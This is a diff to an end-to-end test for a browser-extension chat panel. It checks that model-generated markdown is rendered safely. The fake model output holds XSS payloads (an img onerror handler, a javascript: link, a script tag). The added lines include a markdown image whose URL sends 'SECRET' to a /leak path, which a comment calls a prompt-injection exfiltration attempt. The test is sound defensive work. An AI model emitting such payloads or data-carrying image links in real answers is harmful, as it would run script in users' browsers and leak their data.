@@ -51,13 +51,18 @@ test('Anthropic: the answer streams through the Messages wire format and renders
 
 test('Markdown from the model cannot run script or carry javascript: links', async ({ context, extensionId, llm, extPage }) => {
   await addProvider(extPage, { kind: 'openai-compatible', name: 'Fake', baseUrl: llm.openaiBaseUrl, model: 'm' });
-  llm.enqueue({ text: ['<img src=x onerror="window.__pwned=1">', '[click](javascript:window.__pwned=2) ', '<script>window.__pwned=3</script> done'] });
+  // The last chunk is what a prompt injection would aim for: an image URL carrying data out.
+  llm.enqueue({ text: ['<img src=x onerror="window.__pwned=1">', '[click](javascript:window.__pwned=2) ', '<script>window.__pwned=3</script> done', `\n\n![chart](${llm.url}/leak?q=SECRET)`] });
   const panel = await openPanel(context, extensionId);
   await sendChat(panel, 'hi');
   const answer = assistantMessages(panel).last();
   await expect(answer).toHaveAttribute('data-status', 'complete');
   expect(await answer.locator('[onerror]').count()).toBe(0);
   expect(await answer.locator('script').count()).toBe(0);
-  expect(await answer.locator('a').getAttribute('href')).toBeNull();
+  expect(await answer.locator('a:not(.image-link)').getAttribute('href')).toBeNull();
   expect(await panel.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
+  // The image is a link the user may follow, not a request made on their behalf.
+  await expect(answer.locator('a.image-link')).toHaveText('[image: chart]');
+  await panel.waitForTimeout(300);
+  expect(llm.requests.some((r) => r.path === '/leak')).toBe(false);
 });
